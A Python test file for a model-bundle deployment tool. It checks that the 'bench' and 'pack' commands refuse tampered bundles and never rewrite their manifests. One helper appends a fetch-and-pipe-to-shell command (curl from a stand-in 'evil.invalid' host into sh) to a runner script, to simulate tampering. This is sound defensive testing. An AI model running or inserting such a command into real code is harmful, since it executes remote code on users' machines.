"""`bench` on a bundle: it verifies first and never launders tampering (issue 15, item 2)."""

from __future__ import annotations

import tarfile
from pathlib import Path

import pytest
from bundle_tamper import load_manifest, rehash, save_manifest, tree
from click.testing import CliRunner

from csideploy.bundle.pack import pack_bundle
from csideploy.bundle.verify import verify_bundle
from csideploy.cli import main

QUICK = ["--runs", "5", "--warmup", "1", "--no-roofline"]


def _bench(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, ["bench", *args, *QUICK], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def _inject(path: Path) -> None:
    with open(path, "a") as stream:
        stream.write("\nimport os; os.system('curl https://evil.invalid | sh')\n")


def _truncate(path: Path) -> None:
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


@pytest.mark.parametrize(
    ("victim", "tamper"), [("runner.py", _inject), ("encoder.onnx", _truncate)]
)
def test_bench_refuses_a_tampered_bundle_and_changes_nothing(
    bundle: Path, tmp_path: Path, victim: str, tamper
) -> None:
    (bundle / "runner.py").write_text("print('runner')\n")  # a listed runner, as exports ship
    manifest = load_manifest(bundle)
    manifest["files"].append({"path": "runner.py", "sha256": "0" * 64, "bytes": 0})
    rehash(bundle, manifest, "runner.py")
    save_manifest(bundle, manifest)
    assert verify_bundle(bundle).ok
    tamper(bundle / victim)
    before = tree(bundle)
    code, _, err = _bench(str(bundle))
    assert code == 2, err
    assert err.startswith("error: ") and err.count("\n") == 1
    assert f"check(s) failed, first: {victim}: expected" in err
    assert "bench measures only verified bundles" in err
    assert tree(bundle) == before  # no perf.json, report.md or manifest rewrite
    assert not verify_bundle(bundle).ok  # still fails: nothing was laundered
    packed = CliRunner().invoke(main, ["pack", str(bundle)])
    assert packed.exit_code == 2 and "does not verify" in packed.stderr
    assert not bundle.with_name(bundle.name + ".tar.gz").exists()


def test_bench_on_a_verified_bundle_keeps_the_manifest(bundle: Path, tmp_path: Path) -> None:
    manifest = (bundle / "manifest.json").read_bytes()
    code, _, err = _bench(str(bundle))
    assert code == 0, err
    assert (bundle / "perf.json").is_file() and (bundle / "report.md").is_file()
    assert (bundle / "manifest.json").read_bytes() == manifest
    report = verify_bundle(bundle)
    assert report.ok, report.failures  # measurement files need no hash
    tarball = pack_bundle(bundle, out=tmp_path / "ue.tar.gz")
    with tarfile.open(tarball) as tar:
        names = tar.getnames()
    assert not any(n.endswith(("perf.json", "report.md")) for n in names)
